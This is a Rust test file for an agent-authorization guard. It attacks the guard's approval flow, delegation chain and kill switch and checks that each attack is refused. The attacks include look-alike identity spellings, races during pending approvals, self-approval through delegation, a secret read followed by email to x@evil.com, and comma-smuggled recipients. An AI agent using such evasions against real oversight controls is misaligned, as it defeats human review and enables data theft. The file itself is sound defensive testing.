//! Ways around the guard, tried as an attacker who controls the agent's arguments and as an
//! operator under pressure, each refused. What a scenario file can express is in
//! `tests/scenarios/attacks/`; this module holds what needs code: state changing while a human
//! decides, races, and the delegation chain.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use agentwarrant::{
    Approval, ApprovalAnswer, ApprovalRequest, Limits, ManualClock, ReasonCode, RefusalKind, Role,
    ToolCall,
};
use serde_json::json;

use crate::fixtures::*;

/// Something to do while the approver "thinks", set once the task exists.
type During = Arc<Mutex<Option<Box<dyn Fn() + Send>>>>;

/// An approver that runs `during` and then approves as bob.
fn approver_that(during: &During) -> impl Fn(&ApprovalRequest) -> Answer + Send + Sync {
    let during = during.clone();
    move |request: &ApprovalRequest| {
        if let Some(action) = during.lock().unwrap().as_ref() {
            action();
        }
        Ok(ApprovalAnswer::Approved(vec![Approval::of(request, BOB)]))
    }
}

fn secret() -> ToolCall {
    ToolCall::new("read_secret", json!({"path": "db/main"}))
}

#[test]
fn the_kill_switch_thrown_while_a_human_decides_refuses_the_approved_call() {
    let during = During::default();
    let guard = builder().approver(approver_that(&during)).build().unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    let switch = guard.clone();
    *during.lock().unwrap() = Some(Box::new(move || {
        switch.disable_identity("agent://acme/ops")
    }));

    let refusal = task.authorize(secret()).unwrap_err();

    assert_eq!(refusal.kind, RefusalKind::Denied, "{refusal:?}");
    assert!(refusal.has(&ReasonCode::GrantInvalid), "{refusal:?}");
    assert!(refusal.has(&ReasonCode::SecretAccess), "{refusal:?}");
}

#[test]
fn a_task_ended_while_a_human_decides_gets_no_warrant() {
    let during = During::default();
    let guard = builder().approver(approver_that(&during)).build().unwrap();
    let task = Arc::new(guard.begin(ops(), anything()).unwrap());
    let ending = Arc::downgrade(&task);
    *during.lock().unwrap() = Some(Box::new(move || {
        if let Some(task) = ending.upgrade() {
            task.end().unwrap();
        }
    }));

    let refusal = task.authorize(secret()).unwrap_err();

    assert!(refusal.has(&ReasonCode::GrantInvalid), "{refusal:?}");
    let detail = refusal
        .reasons
        .iter()
        .find(|r| r.code == ReasonCode::GrantInvalid);
    let detail = detail.and_then(|r| r.detail.clone()).unwrap_or_default();
    assert!(
        detail.contains("while the approval was pending"),
        "{detail}"
    );
}

#[test]
fn a_grant_that_expires_while_a_human_decides_gets_no_warrant() {
    let clock = Arc::new(ManualClock::new(
        time::macros::datetime!(2026-01-01 00:00 UTC),
    ));
    let during = During::default();
    let guard = builder()
        .clock(clock.clone())
        .limits(Limits {
            grant_ttl: Duration::from_secs(60),
            ..Limits::default()
        })
        .approver(approver_that(&during))
        .build()
        .unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    let later = clock.clone();
    *during.lock().unwrap() = Some(Box::new(move || later.advance(time::Duration::minutes(5))));

    let refusal = task.authorize(secret()).unwrap_err();

    assert!(refusal.has(&ReasonCode::GrantInvalid), "{refusal:?}");
}

#[test]
fn nobody_who_owns_an_identity_in_the_delegation_chain_may_approve_under_four_eyes() {
    // alice's agent delegates to an escalation identity that bob owns; carol is a bystander.
    let guard_with =
        |approver: &'static str| builder().approver(approve_as(approver)).build().unwrap();
    let escalation = || agent("agent://acme/break-glass", Role::Escalation, BOB);
    for (approver, approved) in [(ALICE, false), (BOB, false), (CAROL, true)] {
        let guard = guard_with(approver);
        let task = guard.begin(ops(), anything()).unwrap();
        let sub = task.delegate(escalation(), None).unwrap();

        let result = sub.authorize(secret());

        match result {
            Ok(warrant) => {
                assert!(
                    approved,
                    "{approver} approved work under an identity they own"
                );
                assert_eq!(warrant.approvers(), [approver]);
            }
            Err(refusal) => {
                assert!(!approved, "{approver}: {refusal:?}");
                assert!(refusal.has(&ReasonCode::ApprovalInvalid), "{refusal:?}");
            }
        }
    }
}

#[test]
fn the_owner_of_the_root_task_cannot_approve_an_rbac_change_made_by_a_sub_agent() {
    let guard = builder().approver(approve_as(ALICE)).build().unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    let helper = agent("agent://acme/helper", Role::Executor, BOB);
    let sub = task.delegate(helper, None).unwrap();

    let refusal = sub
        .authorize(ToolCall::new("grant_role", json!({"user": "mallory"})))
        .unwrap_err();

    assert!(refusal.has(&ReasonCode::ApprovalInvalid), "{refusal:?}");
}

#[test]
fn nested_delegation_counts_toward_the_depth_limit() {
    let guard = builder().limits(patient()).build().unwrap();
    let root = guard.begin(ops(), anything()).unwrap();
    let logs = || ToolCall::new("read_logs", json!({"service": "api"}));
    let mut tasks = vec![root];
    for level in 1..=12 {
        let helper = agent(&format!("agent://acme/helper-{level}"), Role::Executor, BOB);
        let next = tasks.last().unwrap().delegate(helper, None).unwrap();
        tasks.push(next);
    }
    // Depth 1, 2, 3, 4 are allowed (max_depth 4); the fifth level and below are not.
    for (level, task) in tasks.iter().enumerate() {
        let result = task.authorize(logs());
        match result {
            Ok(warrant) => {
                assert!(level < 4, "level {level} ran at depth {}", warrant.depth());
                assert_eq!(warrant.depth() as usize, level + 1);
            }
            Err(refusal) => {
                assert!(level >= 4, "level {level}: {refusal:?}");
                assert!(refusal.has(&ReasonCode::DepthExceeded), "{refusal:?}");
            }
        }
    }
}

#[test]
fn a_misspelt_environment_is_a_build_error_not_a_silently_ungated_one() {
    for typo in ["production", "Prod", "prod ", ""] {
        let error = builder().env(typo).build().unwrap_err();
        assert_eq!(error.code(), "invalid_environment", "{typo:?}: {error}");
        assert!(
            error
                .to_string()
                .contains("declared: dev, test, staging, prod"),
            "{error}"
        );
    }
    // A production environment of the user's own naming gates like `prod`.
    let guard = builder()
        .environments(["dev", "eu-prod"], ["eu-prod"])
        .env("eu-prod")
        .build()
        .unwrap();
    assert!(guard.is_production());
    let task = guard.begin(ops(), anything()).unwrap();
    let refusal = task
        .authorize(ToolCall::new("restart_service", json!({"service": "api"})))
        .unwrap_err();
    assert!(refusal.has(&ReasonCode::ProductionChange), "{refusal:?}");
    // Declaring a production environment that is not an environment is an error too.
    let error = builder()
        .environments(["dev"], ["prod"])
        .build()
        .unwrap_err();
    assert_eq!(error.code(), "invalid_environment");
}

/// Look-alike spellings of alice (the owner), of an agent identity, and of bob.
const ALICE_LOOK_ALIKES: [&str; 6] = [
    "alice@acme.com\u{200b}",
    "\u{200b}alice@acme.com",
    "alice@acme.com.",
    "ａｌｉｃｅ@acme.com",
    "аlice@acme.com",
    "ALICE@acme.com\u{feff}",
];

#[test]
fn a_look_alike_of_the_owner_is_the_owner_under_four_eyes() {
    for spelling in ALICE_LOOK_ALIKES {
        let guard = builder()
            .approver(move |request: &ApprovalRequest| {
                Ok(ApprovalAnswer::Approved(vec![Approval::of(
                    request, spelling,
                )]))
            })
            .build()
            .unwrap();
        let task = guard.begin(ops(), anything()).unwrap();

        let refusal = task
            .authorize(ToolCall::new("grant_role", json!({"user": "mallory"})))
            .unwrap_err();

        assert!(
            refusal.has(&ReasonCode::ApprovalInvalid),
            "{spelling:?}: {refusal:?}"
        );
    }
}

#[test]
fn a_look_alike_of_an_agent_identity_is_not_a_human_approver() {
    for spelling in [
        "\u{200b}agent://acme/ops",
        "AGENT://acme/ops",
        "ａｇｅｎｔ://acme/ops",
        "agent://acme/ops\u{200b}",
        "agent://acme/planner\u{200d}",
    ] {
        let guard = builder()
            .identities(["agent://acme/planner"])
            .approver(move |request: &ApprovalRequest| {
                Ok(ApprovalAnswer::Approved(vec![Approval::of(
                    request, spelling,
                )]))
            })
            .build()
            .unwrap();
        let task = guard.begin(ops(), anything()).unwrap();

        let refusal = task.authorize(secret()).unwrap_err();

        assert!(
            refusal.has(&ReasonCode::ApprovalInvalid),
            "{spelling:?}: {refusal:?}"
        );
    }
}

#[test]
fn a_declared_identity_may_not_approve_even_before_its_first_task() {
    // Not an agent:// URI, so only the declaration makes it known.
    let guard = builder()
        .identities(["svc-deployer@acme.com"])
        .approver(approve_as("svc-deployer@acme.com"))
        .build()
        .unwrap();
    let task = guard.begin(ops(), anything()).unwrap();

    let refusal = task.authorize(secret()).unwrap_err();

    assert!(refusal.has(&ReasonCode::ApprovalInvalid), "{refusal:?}");
}

#[test]
fn one_person_spelled_twice_is_one_of_the_approvers_an_n_of_m_policy_needs() {
    let policy = agentwarrant::Policy::default_bundle().with_module(
        "two.rego",
        "package agentwarrant\n\nobligations := {\"approvers\": 2}\n",
    );
    let guard = builder()
        .policy(policy)
        .approver(|request: &ApprovalRequest| {
            Ok(ApprovalAnswer::Approved(vec![
                Approval::of(request, BOB),
                Approval::of(request, "bob@acme.com\u{200b}"),
            ]))
        })
        .build()
        .unwrap();
    let task = guard.begin(ops(), anything()).unwrap();

    let refusal = task.authorize(secret()).unwrap_err();

    assert!(refusal.has(&ReasonCode::ApprovalInvalid), "{refusal:?}");
    let detail = format!("{:?}", refusal.reasons);
    assert!(
        detail.contains("2 distinct approver(s) needed, 1 given"),
        "{detail}"
    );
}

#[test]
fn the_kill_switch_matches_a_look_alike_spelling_of_the_identity() {
    let guard = builder().build().unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    guard.disable_identity("AGENT://acme/ops\u{200b}");

    let refusal = task
        .authorize(ToolCall::new("read_logs", json!({"service": "api"})))
        .unwrap_err();

    assert!(refusal.has(&ReasonCode::GrantInvalid), "{refusal:?}");
}

/// Runs `per_thread` calls of `call` on each of `threads` threads against one task; returns
/// how many got a warrant.
fn in_parallel(
    task: &agentwarrant::Task,
    threads: usize,
    per_thread: usize,
    call: fn() -> ToolCall,
) -> usize {
    let allowed = std::sync::atomic::AtomicUsize::new(0);
    std::thread::scope(|scope| {
        for _ in 0..threads {
            scope.spawn(|| {
                for _ in 0..per_thread {
                    if let Ok(warrant) = task.authorize(call()) {
                        warrant.complete(agentwarrant::Outcome::ok()).unwrap();
                        allowed.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                    }
                }
            });
        }
    });
    allowed.into_inner()
}

#[test]
fn parallel_calls_never_both_spend_the_last_unit_of_cumulative_impact() {
    for _ in 0..20 {
        let guard = builder().build().unwrap();
        let task = guard.begin(ops(), anything()).unwrap();
        let restart = || ToolCall::new("restart_service", json!({"service": "api"}));

        // Medium weighs 1 and the default limit is 6: exactly six run without approval.
        assert_eq!(in_parallel(&task, 8, 3, restart), 6);
    }
}

#[test]
fn parallel_calls_never_both_spend_the_last_unit_of_the_call_budget() {
    for _ in 0..20 {
        let guard = builder()
            .limits(Limits {
                max_calls: Some(10),
                ..Limits::default()
            })
            .build()
            .unwrap();
        let task = guard.begin(ops(), anything()).unwrap();
        let logs = || ToolCall::new("read_logs", json!({"service": "api"}));

        assert_eq!(in_parallel(&task, 8, 4, logs), 10);
    }
}

#[test]
fn a_label_from_an_issued_warrant_is_seen_by_every_call_decided_after_it() {
    for _ in 0..50 {
        let ledger = Arc::new(agentwarrant::MemoryLedger::new());
        let guard = builder()
            .ledger(ledger.clone())
            .limits(patient())
            .approver(|request: &ApprovalRequest| {
                std::thread::sleep(Duration::from_millis(1));
                Ok(ApprovalAnswer::Approved(vec![Approval::of(request, BOB)]))
            })
            .build()
            .unwrap();
        let task = guard.begin(ops(), anything()).unwrap();
        let send = || ToolCall::new("send_email", json!({"to": "x@evil.com", "body": "hi"}));
        std::thread::scope(|scope| {
            scope.spawn(|| {
                let _ = task
                    .authorize(secret())
                    .map(|w| w.complete(agentwarrant::Outcome::ok()));
            });
            scope.spawn(|| in_parallel(&task, 1, 20, send));
        });

        // The ledger holds decisions in the order they were made: every send decided after
        // the secret read's warrant was refused as exfiltration, every send before it ran.
        let records = ledger.records();
        let decided: Vec<_> = records
            .iter()
            .filter(|r| r.kind.as_str() == "call.decided")
            .collect();
        let read_at = decided
            .iter()
            .position(|r| r.tool.as_deref() == Some("read_secret"))
            .unwrap();
        for (index, record) in decided.iter().enumerate() {
            if record.tool.as_deref() != Some("send_email") {
                continue;
            }
            let refused_for_exfiltration = record
                .decision
                .as_ref()
                .is_some_and(|d| d.reasons.iter().any(|r| r == "exfiltration"));
            assert_eq!(
                refused_for_exfiltration,
                index > read_at,
                "send {index} (read at {read_at}): {:?}",
                record.decision
            );
        }
    }
}

#[test]
fn a_call_is_decided_again_when_the_chain_changed_while_its_approval_was_pending() {
    // While a human approves a production send, a parallel call reads a secret: the send is
    // decided again on the chain as it is now, and the read makes it exfiltration.
    let during = During::default();
    let answers = during.clone();
    let guard = builder()
        .env("prod")
        .approver(move |request: &ApprovalRequest| {
            if request.tool == "send_email" {
                if let Some(action) = answers.lock().unwrap().as_ref() {
                    action();
                }
            }
            Ok(ApprovalAnswer::Approved(vec![Approval::of(request, BOB)]))
        })
        .build()
        .unwrap();
    let task = Arc::new(guard.begin(ops(), anything()).unwrap());
    let reader = Arc::downgrade(&task);
    *during.lock().unwrap() = Some(Box::new(move || {
        let task = reader.upgrade().unwrap();
        std::thread::spawn(move || task.authorize(secret()).map(|w| w.call_id()))
            .join()
            .unwrap()
            .unwrap();
    }));

    let refusal = task
        .authorize(ToolCall::new(
            "send_email",
            json!({"to": "x@evil.com", "body": "hi"}),
        ))
        .unwrap_err();

    assert_eq!(refusal.kind, RefusalKind::Denied, "{refusal:?}");
    assert!(refusal.has(&ReasonCode::Exfiltration), "{refusal:?}");
}

#[test]
fn a_code_that_fires_for_several_scopes_is_listed_once_with_every_scope_in_its_detail() {
    let guard = builder().build().unwrap();
    let intent = agentwarrant::Intent::builder("mail the team")
        .scopes(["email.send:*@acme.com"])
        .build()
        .unwrap();
    let task = guard.begin(ops(), intent).unwrap();

    let refusal = task
        .authorize(ToolCall::new(
            "send_email",
            json!({"to": ["a@evil.com", "b@evil.com"], "body": "hi"}),
        ))
        .unwrap_err();

    let drift: Vec<_> = refusal
        .reasons
        .iter()
        .filter(|r| r.code == ReasonCode::ScopeDrift)
        .collect();
    assert_eq!(drift.len(), 1, "{refusal:?}");
    let detail = drift[0].detail.clone().unwrap_or_default();
    assert!(
        detail.contains("a@evil.com") && detail.contains("b@evil.com"),
        "{detail}"
    );
}

#[test]
fn an_agent_that_keeps_retrying_a_refused_call_is_suspended_until_a_human_reinstates_it() {
    let ledger = Arc::new(agentwarrant::MemoryLedger::new());
    let guard = builder().ledger(ledger.clone()).build().unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    let smuggle = |n: usize| {
        ToolCall::new(
            "send_email",
            json!({"to": format!("x{n}@evil.com,bob@acme.com"), "body": "hi"}),
        )
    };
    // The default allows five refusals of one tool in the window; the sixth suspends.
    for n in 0..6 {
        let refusal = task.authorize(smuggle(n)).unwrap_err();
        assert!(refusal.has(&ReasonCode::InvalidCall), "{n}: {refusal:?}");
    }
    let logs = || ToolCall::new("read_logs", json!({"service": "api"}));
    let refusal = task.authorize(logs()).unwrap_err();
    assert!(refusal.has(&ReasonCode::TaskSuspended), "{refusal:?}");
    assert!(ledger
        .records()
        .iter()
        .any(|r| r.kind.as_str() == "task.suspended"));

    // A fresh task is no way out, and no agent may lift the suspension.
    let error = guard.begin(ops(), anything()).unwrap_err();
    assert_eq!(error.code(), "task_suspended");
    assert!(task.reinstate("agent://acme/ops").is_err());

    task.reinstate(BOB).unwrap();
    task.authorize(logs())
        .unwrap()
        .complete(agentwarrant::Outcome::ok())
        .unwrap();
    assert!(guard.begin(ops(), anything()).is_ok());
    assert!(ledger
        .records()
        .iter()
        .any(|r| r.kind.as_str() == "task.reinstated"));
}

#[test]
fn refusals_spread_over_tools_suspend_only_past_the_total_limit() {
    let guard = builder()
        .limits(Limits {
            max_refusals: Some(3),
            max_tool_refusals: None,
            ..Limits::default()
        })
        .build()
        .unwrap();
    let task = guard.begin(ops(), anything()).unwrap();
    for tool in ["drop_db", "rm_rf", "format_disk"] {
        let refusal = task.authorize(ToolCall::new(tool, json!({}))).unwrap_err();
        assert!(refusal.has(&ReasonCode::UnknownTool));
    }
    let logs = || ToolCall::new("read_logs", json!({"service": "api"}));
    // Three refusals are within the limit: work goes on.
    task.authorize(logs())
        .unwrap()
        .complete(agentwarrant::Outcome::ok())
        .unwrap();
    let _ = task
        .authorize(ToolCall::new("wipe", json!({})))
        .unwrap_err();
    assert!(task
        .authorize(logs())
        .unwrap_err()
        .has(&ReasonCode::TaskSuspended));
}

#[test]
fn a_task_suspended_while_a_human_decides_gets_no_warrant() {
    let during = During::default();
    let guard = builder().approver(approver_that(&during)).build().unwrap();
    let task = Arc::new(guard.begin(ops(), anything()).unwrap());
    let pivoting = Arc::downgrade(&task);
    *during.lock().unwrap() = Some(Box::new(move || {
        let task = pivoting.upgrade().unwrap();
        std::thread::spawn(move || {
            for _ in 0..6 {
                let _ = task.authorize(ToolCall::new("drop_db", json!({})));
            }
        })
        .join()
        .unwrap();
    }));

    let refusal = task.authorize(secret()).unwrap_err();

    assert!(refusal.has(&ReasonCode::TaskSuspended), "{refusal:?}");
}
